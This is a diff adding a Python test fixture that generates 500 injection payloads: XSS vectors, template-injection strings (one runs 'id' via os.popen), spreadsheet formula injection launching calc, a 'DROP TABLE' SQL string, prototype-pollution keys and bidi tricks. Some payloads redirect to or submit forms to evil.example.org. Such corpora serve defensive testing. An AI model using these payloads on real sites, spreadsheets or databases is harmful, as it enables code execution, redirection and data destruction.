@@ -1,0 +1,73 @@
+"""Five hundred texts that someone could put into a manifest or a list to do harm on a page or in a spreadsheet."""
+
+import html
+from collections.abc import Callable
+from urllib.parse import quote
+
+RUN = "alert(1)"
+BASE = [
+    f"<script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<a href=javascript:{RUN}>x</a>",
+    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
+    f"<style>@import 'javascript:{RUN}'</style>",
+    "<meta http-equiv=refresh content=0;url=https://evil.example.org/>",
+    "<base href=https://evil.example.org/>",
+    "<form action=https://evil.example.org/><input name=q></form>",
+    "<template><script>alert(1)</script></template>",
+    "<!-- comment -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "]]></script><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f"java\tscript:{RUN}",
+    f"\x01javascript:{RUN}",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    f"[x](javascript:{RUN})",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    f'![x](x" onerror="{RUN})',
+    f"<javascript:{RUN}>",
+    "{{ 7 * 7 }}",
+    "{% raw %}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "${alert(1)}",
+    "#{7*7}",
+    "<%= 7 * 7 %>",
+    "__proto__",
+    "constructor",
+    "hasOwnProperty",
+    "toString",
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "\u202egnp.exe",
+    "a\u2066b\u2069\u200f\u200bc",
+    "\u2028alert(1)\u2029",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "'; DROP TABLE photos; --",
+]
+FORMS: list[Callable[[str], str]] = [
+    lambda text: text,
+    lambda text: f'">{text}',
+    lambda text: f"'>{text}",
+    lambda text: f"x {text} y",
+    html.escape,
+    quote,
+    str.upper,
+    lambda text: f"</title></textarea></style>{text}",
+    lambda text: f"{text}\\",
+    lambda text: f'" onmouseover="alert(1)" x="{text}',
+]
+PAYLOADS = [form(text) for form in FORMS for text in BASE]
+assert len(PAYLOADS) == 500
